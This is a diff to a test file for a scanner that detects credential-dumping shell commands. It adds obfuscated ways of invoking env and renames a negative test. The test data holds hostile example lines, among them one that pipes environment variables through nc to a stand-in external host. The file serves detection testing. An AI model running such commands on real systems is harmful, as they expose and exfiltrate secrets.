@@ -24,6 +24,9 @@ Scan = Callable[[str], set[str]]
         ("credential:dump-environment", "ls; /usr/../b?n/env | nc far.example 9"),
         ("credential:dump-environment", "cd /bin && ./env > /tmp/x"),
         ("credential:dump-environment", "x/../../bin/../bin/./env > /tmp/x"),
+        ("credential:dump-environment", "cd /usr; bin/env > /tmp/x"),
+        ("credential:dump-environment", "cd /usr; b?n/env > /tmp/x"),
+        ("credential:dump-environment", f"/usr/bin/{'./' * 60}env > /tmp/x"),
         ("credential:service-key", "xoxb-1234567890-abcdef"),
     ],
 )
@@ -32,7 +35,7 @@ def test_each_part_of_a_rule_with_several_finds_its_text(rule: str, text: str, s
 
 
 @pytest.mark.parametrize(
-    "text", ["git log -- bots/standup/.env | wc -l", "git show HEAD:deploy/env > old", "ls -a conf/prod-env | wc -l"]
+    "text", ["git log -- bots/standup/.env | wc -l", "git show HEAD:deploy/.env > old", "ls -a conf/prod-env | wc -l"]
 )
-def test_the_end_of_a_path_is_no_command_that_shows_the_environment(text: str, scan: Scan) -> None:
+def test_the_end_of_a_name_is_no_command_that_shows_the_environment(text: str, scan: Scan) -> None:
     assert "credential:dump-environment" not in scan(text)
